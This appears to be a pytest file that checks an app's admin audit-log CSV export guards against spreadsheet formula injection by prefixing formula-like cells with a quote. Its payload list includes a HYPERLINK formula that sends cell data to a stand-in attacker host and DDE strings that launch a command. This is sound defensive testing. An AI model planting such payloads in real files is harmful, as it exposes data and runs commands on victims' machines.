"""Formula injection through CSV exports: text that a spreadsheet would run as a formula when
an admin opens the file. Anyone can put such text in the audit trail by failing to sign in
with it as the email. Every text cell that starts like a formula must come out prefixed with
a single quote (OWASP's advice), keeping the text after it; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from app.audit import service as audit
from tests.helpers import csrf_from, login

PAYLOADS = [
    '=HYPERLINK("https://attacker.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign: some spreadsheets in CJK locales read it as "="
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def _export(client) -> list[list[str]]:
    response = client.get("/admin/audit.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.text)))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_a_failed_sign_in_cannot_plant_a_formula(client, admin_user):
    """The attack as an outsider makes it: the email field of the sign-in form."""
    payload = PAYLOADS[0]
    page = client.get("/login")
    client.post(
        "/login",
        data={"email": payload, "password": "wrong", "csrf_token": csrf_from(page.text)},
    )
    login(client, admin_user.email)
    rows = _export(client)
    assert _formula_cells(rows) == []
    # The text survives whole after the quote, so the export still says what happened.
    actors = [row[2] for row in rows[1:]]
    assert "'" + payload.lower() in actors or "'" + payload in actors


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_exported_cell_starts_like_a_formula(client, db_session, admin_user, payload):
    audit.record(
        db_session,
        actor=None,
        action="login.failed",
        entity_type="user",
        entity_id=payload,
        actor_label=payload,
    )
    login(client, admin_user.email)
    rows = _export(client)
    assert _formula_cells(rows) == []
    planted = [row for row in rows[1:] if row[2] == "'" + payload]
    assert len(planted) == 1 and planted[0][5] == "'" + payload


def test_numbers_stay_numbers_and_ordinary_text_is_untouched(client, db_session, admin_user):
    login(client, admin_user.email)
    text = client.get("/admin/audit.csv").text
    rows = list(csv.reader(io.StringIO(text)))
    event = rows[-1]
    assert event[0].isdigit()  # the id, written from an integer, unquoted and unprefixed
    assert event[2] == admin_user.email and event[3] == "login.succeeded"
    # Text cells are quoted, so a separator inside one cannot start a new cell.
    assert text.splitlines()[-1].startswith(f'{event[0]},"')
